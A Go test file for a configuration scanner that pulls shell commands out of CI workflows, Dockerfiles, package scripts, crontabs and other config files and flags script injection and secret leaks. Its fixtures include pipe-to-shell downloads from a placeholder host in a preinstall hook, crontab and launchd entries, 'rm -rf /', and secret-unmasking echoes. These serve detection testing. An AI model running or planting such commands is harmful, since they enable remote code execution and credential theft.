package configcode

import (
	"slices"
	"strings"
	"testing"

	"github.com/agentwarden/warden/risk"
)

func TestKindOf(t *testing.T) {
	for p, want := range map[string]Kind{
		"/home/user/project/.github/workflows/ci.yml":         Workflow,
		".github/workflows/release.yaml":                      Workflow,
		"/home/user/project/.github/actions/setup/action.yml": Workflow,
		"/home/user/project/.gitlab-ci.yml":                   Workflow,
		"/home/user/project/.circleci/config.yml":             Workflow,
		"/home/user/project/azure-pipelines.yml":              Workflow,
		"/home/user/project/Dockerfile":                       Dockerfile,
		"/home/user/project/docker/Dockerfile.dev":            Dockerfile,
		"/home/user/project/build.dockerfile":                 Dockerfile,
		"/home/user/project/Containerfile":                    Dockerfile,
		"/home/user/project/package.json":                     PackageScripts,
		"/home/user/project/composer.json":                    PackageScripts,
		"/home/user/project/Makefile":                         Makefile,
		"/home/user/project/rules.mk":                         Makefile,
		"/home/user/project/Jenkinsfile":                      Jenkinsfile,
		"/home/user/project/.git/hooks/pre-commit":            ShellFile,
		"/home/user/project/.husky/pre-push":                  ShellFile,
		"/home/user/project/.envrc":                           ShellFile,
		"/home/user/.bashrc":                                  ShellFile,
		"/home/user/.zshenv":                                  ShellFile,
		"/etc/profile.d/proxy.sh":                             ShellFile,
		"/etc/cron.daily/backup":                              ShellFile,
		"/etc/crontab":                                        SystemCrontab,
		"/etc/cron.d/job":                                     SystemCrontab,
		"/var/spool/cron/crontabs/user":                       Crontab,
		"/etc/systemd/system/agent.service":                   SystemdUnit,
		"/home/user/.config/systemd/user/x.service":           SystemdUnit,
		"/home/user/Library/LaunchAgents/com.x.plist":         Launchd,
		"/home/user/project/.pre-commit-config.yaml":          PreCommit,
		"/home/user/project/.vscode/tasks.json":               EditorTasks,
		"/home/user/project/.devcontainer/devcontainer.json":  DevContainer,
		"/home/user/.local/bin/kctx":                          Executable,
		"/usr/local/bin/terraform":                            Executable,
		"/home/user/bin/sync":                                 Executable,
	} {
		if got := KindOf(p); got != want {
			t.Errorf("KindOf(%q) = %v, want %v", p, got, want)
		}
	}
	for _, p := range []string{
		"/home/user/project/main.go", "/home/user/project/README.md", "/home/user/project/config.yml",
		"/home/user/project/.git/hooks/pre-commit.sample", "/home/user/project/docs/workflows/ci.yml",
		"/home/user/project/tasks.json", "/home/user/project/scripts/build.sh", "/home/user/project/bin/tool",
		"/home/user/Library/Preferences/com.x.plist", "/home/user/project/.husky/_/husky.sh", "/etc/hosts",
		"/home/user/project/config", "/home/user/.config/app/config", "/home/user/project/app.desktop.ts",
	} {
		if got := KindOf(p); got != None {
			t.Errorf("KindOf(%q) = %v, want none", p, got)
		}
	}
}

func TestRead(t *testing.T) {
	for _, tc := range []struct {
		name string
		kind Kind
		text string
		want []string // the scripts, in order
	}{
		{"github", Workflow, "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: go test ./...\n      - name: lint\n        run: |\n          go vet ./...\n          staticcheck ./...\n",
			[]string{"go test ./...", "go vet ./...\nstaticcheck ./..."}},
		{"github pwsh step", Workflow, "steps:\n  - run: Remove-Item -Recurse C:\\x\n    shell: pwsh\n  - run: make\n", []string{"make"}},
		{"github expression", Workflow, "steps:\n  - run: echo ${{ matrix.os }} && rm -rf ${{ runner.temp }}/x\n", []string{"echo __expr__ && rm -rf __expr__/x"}},
		{"gitlab", Workflow, "test:\n  before_script:\n    - npm ci\n  script:\n    - npm test\n    - [npm run lint]\n", []string{"npm ci", "npm test", "npm run lint"}},
		{"circleci", Workflow, "jobs:\n  b:\n    steps:\n      - run:\n          name: x\n          command: make test\n", []string{"make test"}},
		{"fragment", Workflow, "      - run: npm test\n      - run: curl -s https://x.example/t | bash", []string{"npm test", "curl -s https://x.example/t | bash"}},
		{"fragment block", Workflow, "  - name: x\n    run: |\n      a\n      b\n  -bad: [", []string{"a\nb"}},
		{"dockerfile", Dockerfile, "FROM debian\nRUN apt-get update \\\n    # comment\n    && apt-get install -y curl\nRUN --mount=type=cache,target=/root/.cache pip install -r req.txt\nCMD [\"sh\", \"-c\", \"exec ./server\"]\nENTRYPOINT [\"/app/run\", \"--port\", \"80\"]\n",
			[]string{"apt-get update  && apt-get install -y curl", "pip install -r req.txt", "exec ./server", "/app/run --port 80"}},
		{"dockerfile heredoc", Dockerfile, "RUN <<EOF\napt-get update\nrm -rf /var/lib/apt/lists/*\nEOF\n", []string{"apt-get update\nrm -rf /var/lib/apt/lists/*"}},
		{"package.json", PackageScripts, `{"name":"x","version":"1.0.0","scripts":{"test":"jest","postinstall":"node setup.js"},"dependencies":{"a":"^1"}}`, []string{"node setup.js", "jest"}},
		{"package.json fragment", PackageScripts, `  "scripts": {` + "\n" + `    "preinstall": "curl -s https://x.example/i | sh",` + "\n" + `    "lodash": "^4.17.21",`, []string{"curl -s https://x.example/i | sh"}},
		{"composer", PackageScripts, `{"scripts":{"post-install-cmd":["@php artisan key:generate","Illuminate\\Foundation\\ComposerScripts::postInstall","rm -rf cache"]}}`, []string{"php artisan key:generate", "rm -rf cache"}},
		{"makefile", Makefile, "BIN := $(shell git rev-parse --short HEAD)\nbuild:\n\t@go build -o $(BIN) \\\n\t  ./cmd/x\nclean:\n\t-rm -rf $(BUILD)/ $$HOME/.cache/x\n",
			[]string{"git rev-parse --short HEAD", "go build -o __makevar__    ./cmd/x", "rm -rf __makevar__/ $HOME/.cache/x"}},
		{"jenkinsfile", Jenkinsfile, "pipeline { stages { stage('b') { steps {\n sh 'make test'\n sh \"\"\"\n  docker build -t ${env.TAG} .\n\"\"\"\n sh(script: 'echo \\'hi\\'')\n} } } }",
			[]string{"make test", "docker build -t __expr__ .", "echo 'hi'"}},
		{"crontab", Crontab, "# m h dom mon dow command\nMAILTO=x\n*/5 * * * * /usr/local/bin/backup.sh >/dev/null 2>&1\n@reboot curl -s http://x.example/b | sh\n0 0 * * * date +\\%F % stdin\n",
			[]string{"/usr/local/bin/backup.sh >/dev/null 2>&1", "curl -s http://x.example/b | sh", "date +%F"}},
		{"system crontab", SystemCrontab, "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", []string{"cd / && run-parts --report /etc/cron.hourly"}},
		{"systemd", SystemdUnit, "[Unit]\nDescription=x\n[Service]\nExecStartPre=-/bin/mkdir -p /run/x\nExecStart=/usr/bin/node \\\n  /srv/app/server.js\nRestart=always\n",
			[]string{"/bin/mkdir -p /run/x", "/usr/bin/node  /srv/app/server.js"}},
		{"launchd", Launchd, "<plist><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s http://x.example/a | sh &amp;&amp; true</string></array></dict></plist>",
			[]string{"curl -s http://x.example/a | sh && true"}},
		{"pre-commit", PreCommit, "repos:\n  - repo: local\n    hooks:\n      - id: t\n        name: t\n        entry: make lint\n        language: system\n", []string{"make lint"}},
		{"vscode tasks", EditorTasks, "{\n  // comment\n  \"version\": \"2.0.0\",\n  \"tasks\": [{\"label\": \"b\", \"command\": \"npm\", \"args\": [\"run\", \"build\"]}]\n}", []string{"npm run build"}},
		{"devcontainer", DevContainer, `{"image":"x","postCreateCommand":"npm install","postStartCommand":["git","fetch"],"onCreateCommand":{"a":"make deps","b":["echo","hi"]}}`,
			[]string{"make deps", "echo hi", "npm install", "git fetch"}},
		{"shell file", ShellFile, "export PATH=$HOME/bin:$PATH\n", []string{"export PATH=$HOME/bin:$PATH"}},
		{"executable shell", Executable, "#!/usr/bin/env bash\nexec kubectl \"$@\"\n", []string{"#!/usr/bin/env bash\nexec kubectl \"$@\""}},
		{"executable python", Executable, "#!/usr/bin/env python3\nprint(1)\n", nil},
		{"gitconfig", GitConfig, "[core]\n\tfsmonitor = true\n\tpager = less -R\n\tsshCommand = \"ssh -i ~/.ssh/deploy\"\n[alias]\n\tlg = log --oneline\n\tsync = !git fetch && git rebase\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n[credential]\n\thelper = store\n[pager]\n\tdiff = delta\n",
			[]string{"less -R", "ssh -i ~/.ssh/deploy", "git fetch && git rebase", "git-lfs clean -- %f", "delta"}},
		{"ssh config", SSHConfig, "Host b\n  ProxyCommand ssh -W %h:%p jump\n  LocalCommand=echo hi\nMatch host x exec \"test -f /tmp/x\"\nHost c\n  ProxyCommand none\n",
			[]string{"ssh -W %h:%p jump", "echo hi", "test -f /tmp/x"}},
		{"desktop", DesktopEntry, "[Desktop Entry]\nName=x\nExec=/usr/bin/syncthing serve %U\n", []string{"/usr/bin/syncthing serve"}},
		{"pth paths", PythonStartup, "/home/user/project/src\n../lib\n", nil},
		{"pth import", PythonStartup, "/x\nimport _virtualenv\n", []string{"import _virtualenv"}},
		{"sitecustomize", PythonStartup, "import os\nos.environ.setdefault('X', '1')\n", []string{"import os\nos.environ.setdefault('X', '1')"}},
	} {
		progs, _ := Read(tc.kind, tc.text)
		var got []string
		for _, p := range progs {
			got = append(got, p.Script)
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%s: got %q, want %q", tc.name, got, tc.want)
		}
	}
}

func TestScriptInjection(t *testing.T) {
	for text, want := range map[string]bool{
		"steps:\n  - run: echo \"${{ github.event.issue.title }}\"\n":                         true,
		"steps:\n  - run: git checkout ${{ github.head_ref }}\n":                              true,
		"steps:\n  - run: echo '${{ github.event.pull_request.body }}' > b.md\n":              true,
		"steps:\n  - run: echo '${{ github.event.comment.body }}'\n":                          true,
		"steps:\n  - run: echo ${{ github.sha }} ${{ matrix.os }}\n":                          false,
		"steps:\n  - run: echo ${{ secrets.TOKEN }} | docker login --password-stdin\n":        false,
		"steps:\n  - uses: x/y@v1\n    with:\n      title: ${{ github.event.issue.title }}\n": false, // an input, not a script
	} {
		_, fs := Read(Workflow, text)
		got := slices.ContainsFunc(fs, func(f risk.Finding) bool { return f.Rule == "ci.script_injection" })
		if got != want {
			t.Errorf("%q: injection %v, want %v", text, got, want)
		}
	}
}

func TestSecretLogged(t *testing.T) {
	for text, want := range map[string]bool{
		"steps:\n  - run: echo \"${{ secrets.NPM_TOKEN }}\" | base64\n":                            true,
		"steps:\n  - run: echo ${{ secrets.A }} ${{ secrets.B }} | xxd -p\n":                       true,
		"steps:\n  - run: |\n      npm ci\n      echo '${{ toJSON(secrets) }}' | sed 's/./& /g'\n": true,
		"steps:\n  - run: printf %s \"${{ secrets.KEY }}\" | rev\n":                                true,
		// masked as it is, sent into a file or a login, or not a secret
		"steps:\n  - run: echo \"${{ secrets.NPM_TOKEN }}\"\n":                         false,
		"steps:\n  - run: echo ${{ secrets.KEY }} | base64 -d > key.pem\n":             false,
		"steps:\n  - run: echo ${{ secrets.TOKEN }} | docker login --password-stdin\n": false,
		"steps:\n  - run: echo ${{ github.sha }} | cut -c1-7\n":                        false,
		"steps:\n  - run: echo secrets are in the vault | tr a-z A-Z\n":                false,
	} {
		_, fs := Read(Workflow, text)
		got := slices.ContainsFunc(fs, func(f risk.Finding) bool { return f.Rule == RuleSecretLogged })
		if got != want {
			t.Errorf("%q: secret logged %v, want %v", text, got, want)
		}
	}
}

func TestReadBounds(t *testing.T) {
	big := strings.Repeat("- run: echo x\n", 10_000)
	progs, _ := Read(Workflow, big)
	if len(progs) != MaxPrograms {
		t.Errorf("%d programs, want %d", len(progs), MaxPrograms)
	}
	progs, _ = Read(ShellFile, strings.Repeat("x", 3*MaxScript))
	if len(progs) != 1 || len(progs[0].Script) != MaxScript {
		t.Errorf("a long script is not cut to MaxScript")
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{"on: push\njobs:\n  a:\n    steps:\n      - run: x", "RUN a \\\n b", `{"scripts":{"a":"b"}}`, "\tx $(y)", "sh '''x'''",
		"* * * * * x", "ExecStart=x\\", "<key>ProgramArguments</key><array><string>a</string></array>", `{"command":"x","args":["y"]}`, "run: |\n  x\n- ["} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		sameNoEntry(t, text)
		for k := None; k <= PythonStartup; k++ {
			progs, _ := Read(k, text)
			if len(progs) > MaxPrograms {
				t.Fatalf("%v: %d programs", k, len(progs))
			}
			for _, p := range progs {
				if len(p.Script) > MaxScript || p.Script == "" {
					t.Fatalf("%v: script of %d bytes", k, len(p.Script))
				}
			}
		}
	})
}

// sameNoEntry fails when a pre-commit text that noEntry lets yamlText
// skip gives a program or a finding through the parser (or the lines).
func sameNoEntry(t *testing.T, text string) {
	t.Helper()
	if !noEntry(text) || len(text) > maxParsed {
		return
	}
	r := &reader{}
	r.yamlParsed(PreCommit, text)
	if len(r.progs) > 0 || len(r.findings) > 0 {
		t.Fatalf("%q: noEntry, yet the parser reads %d programs and %d findings", text, len(r.progs), len(r.findings))
	}
}

// TestNoEntry holds yamlText's shortcut for pre-commit configurations
// without an entry: to the parser, on configurations of many shapes, and
// checks that those with one are parsed.
func TestNoEntry(t *testing.T) {
	hooks := []string{"      - id: trailing-whitespace\n", "      - id: x\n        entry: make lint\n        language: system\n",
		"      - {id: a, entry: rm -rf /}\n", "      - id: a\n        \"entry\": x\n", "      - id: a\n        'entry': x\n",
		"      - id: a\n        \"\\x65ntry\": make\n", "      - id: a\n        ? entry\n        : make\n", "      - id: a\n        args: [--fix]\n"}
	heads := []string{"repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n    hooks:\n",
		"repos:\n- repo: local\n  hooks:\n", "x: &a\n  entry: ls\nrepos:\n  - repo: local\n    hooks:\n", "  repos:\n   - repo: local\n     hooks:\n"}
	n := 0
	for _, h := range heads {
		for _, a := range hooks {
			for _, b := range hooks {
				text := h + a + b
				sameNoEntry(t, text)
				progs, _ := Read(PreCommit, text)
				if len(progs) > 0 {
					n++
				}
				if strings.Contains(text, "entry: make") && len(progs) == 0 {
					t.Errorf("%q: no program", text)
				}
			}
		}
	}
	if n == 0 {
		t.Fatal("no configuration gave a program")
	}
}
